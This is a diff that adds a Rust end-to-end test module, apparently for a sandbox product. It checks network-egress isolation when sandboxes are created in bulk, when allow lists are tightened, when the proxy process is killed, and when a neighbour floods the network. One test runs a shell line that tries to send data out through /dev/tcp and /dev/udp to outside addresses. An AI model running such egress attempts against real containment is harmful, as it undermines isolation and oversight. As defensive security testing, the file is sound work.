@@ -1,0 +1,164 @@
+//! Attacks that need more than a program in one sandbox: a second sandbox, a
+//! change of policy, the death of a process.
+
+use std::time::Duration;
+
+use anyhow::{Context as _, ensure};
+use rustix::process::Pid;
+use serde_json::json;
+use tokio::time::{Instant, sleep};
+use tombolo_attacks::rig::Rig;
+use tombolo_e2e::host;
+
+/// Sandboxes that are made while others look at the network.
+const CREATE_COUNT: usize = 30;
+const LOOK_AGAIN: Duration = Duration::from_millis(20);
+const PATIENCE: Duration = Duration::from_secs(30);
+/// How soon a connection must end that is no longer allowed, and how long it may
+/// take to hear that a program in a sandbox ended.
+const SEVERED_MAX: Duration = Duration::from_millis(1000 + 500);
+/// How long a neighbour of a flood may wait for one request.
+const NEIGHBOUR_MAX: Duration = Duration::from_secs(5);
+
+/// Does what is special about an attack; none if nothing is.
+pub(super) async fn attack(rig: &Rig, id: &str) -> anyhow::Result<Option<Vec<String>>> {
+    Ok(Some(match id {
+        "NET-12" => own_sandbox(rig, id).await?,
+        "NET-14" => early(rig).await?,
+        "NET-15" => tightened(rig).await?,
+        "NET-16" => killed(rig).await?,
+        "NET-18" => flooded(rig).await?,
+        _ => return Ok(None),
+    }))
+}
+
+/// NET-12: in a sandbox that nobody needs afterwards.
+async fn own_sandbox(rig: &Rig, id: &str) -> anyhow::Result<Vec<String>> {
+    let sandbox = rig.create(rig.usual()).await?;
+    let wrong = rig.attack(&sandbox, id).await?;
+    rig.world.kill(&sandbox).await?;
+    Ok(wrong)
+}
+
+/// NET-14: as many sandboxes as fit into a test, each trying as soon as it can.
+async fn early(rig: &Rig) -> anyhow::Result<Vec<String>> {
+    let first = rig
+        .create(json!({ "timeout": "600s", "allow_net": [] }))
+        .await?;
+    let mut wrong = rig.attack(&first, "NET-14").await?;
+    let before = rig.before(&first)?;
+    for _ in 0..CREATE_COUNT {
+        let config = json!({ "timeout": "600s", "allow_net": [] });
+        let id = rig.api(move |client| client.create(&config)).await?;
+        let try_all = "for to in 9.9.9.9/443 20.0.1.2/443; do \
+                       (echo out > /dev/tcp/$to; echo out > /dev/udp/${to%/*}/123) 2>/dev/null; done; true";
+        rig.world.shell_text(&id, try_all).await?;
+        rig.world.kill(&id).await?;
+    }
+    let seen = rig.network.origin.since(0).len();
+    let nothing = rig.nothing();
+    wrong.extend(rig.after(&before, nothing).await?);
+    let arrived = rig.network.origin.since(seen);
+    if !arrived.is_empty() {
+        wrong.push(format!("the origin saw {arrived:?}"));
+    }
+    rig.world.kill(&first).await?;
+    Ok(wrong)
+}
+
+/// Waits for a file that a program in a sandbox makes.
+async fn made(rig: &Rig, sandbox: &str, path: &str) -> anyhow::Result<()> {
+    let give_up = Instant::now() + PATIENCE;
+    while !rig
+        .world
+        .shell(sandbox, &format!("test -e {path}"))
+        .await?
+        .status
+        .success()
+    {
+        ensure!(Instant::now() < give_up, "{path} is not made");
+        sleep(LOOK_AGAIN).await;
+    }
+    Ok(())
+}
+
+/// NET-15: connections of every kind are open when the list becomes empty.
+async fn tightened(rig: &Rig) -> anyhow::Result<Vec<String>> {
+    let sandbox = rig.create(rig.usual()).await?;
+    let before = rig.before(&sandbox)?;
+    let path = format!("/api/tombolo/v1/sandboxes/{sandbox}/egress/allow_net");
+    let tighten = async {
+        made(rig, &sandbox, "/tmp/held").await?;
+        let begun = Instant::now();
+        let body = json!({ "allow_net": [] });
+        rig.api(move |client| client.must("PUT", &path, Some(&body)))
+            .await?;
+        anyhow::Ok(begun)
+    };
+    let (report, begun) = tokio::join!(rig.run(&sandbox, "NET-15", &[]), tighten);
+    let took = begun?.elapsed();
+    let mut wrong = rig.after(&before, report?).await?;
+    if took > SEVERED_MAX {
+        wrong.push(format!("connections stayed open for {took:?}"));
+    }
+    rig.world.kill(&sandbox).await?;
+    Ok(wrong)
+}
+
+/// NET-16: nothing gets out while nobody carries it, and it works again after.
+async fn killed(rig: &Rig) -> anyhow::Result<Vec<String>> {
+    let sandbox = rig.create(rig.usual()).await?;
+    let old = rig.proxy()?;
+    host::kill(Pid::from_raw(old).context("a process")?)?;
+    // Nobody is there to record what is tried now.
+    let mut wrong = rig.run(&sandbox, "NET-16", &[]).await?.failures;
+    let give_up = Instant::now() + PATIENCE;
+    while rig.proxy().ok().is_none_or(|now| now == old) {
+        ensure!(Instant::now() < give_up, "no other proxy is started");
+        sleep(LOOK_AGAIN).await;
+    }
+    loop {
+        let report = rig.run(&sandbox, "NET-16", &["works"]).await?;
+        if report.failures.is_empty() {
+            break;
+        }
+        ensure!(
+            Instant::now() < give_up,
+            "it does not come back: {:?}",
+            report.failures
+        );
+    }
+    let before = rig.before(&sandbox)?;
+    let report = rig.run(&sandbox, "NET-16", &["works"]).await?;
+    wrong.extend(rig.after(&before, report).await?);
+    rig.world.kill(&sandbox).await?;
+    Ok(wrong)
+}
+
+/// NET-18: a neighbour has its answers while another holds all it can get.
+async fn flooded(rig: &Rig) -> anyhow::Result<Vec<String>> {
+    let (wild, quiet) = (
+        rig.create(rig.usual()).await?,
+        rig.create(rig.usual()).await?,
+    );
+    let before = rig.before(&wild)?;
+    let beside = async {
+        made(rig, &wild, "/tmp/held").await?;
+        let begun = Instant::now();
+        let report = rig.run(&quiet, "NET-16", &["works"]).await?;
+        let took = begun.elapsed();
+        rig.world.shell_text(&wild, "sudo rm /tmp/held").await?;
+        anyhow::Ok((report, took))
+    };
+    let (report, beside) = tokio::join!(rig.run(&wild, "NET-18", &[]), beside);
+    let (other, took) = beside?;
+    let mut wrong = rig.after(&before, report?).await?;
+    wrong.extend(other.failures);
+    if took > NEIGHBOUR_MAX {
+        wrong.push(format!("the neighbour waited {took:?}"));
+    }
+    for sandbox in [wild, quiet] {
+        rig.world.kill(&sandbox).await?;
+    }
+    Ok(wrong)
+}
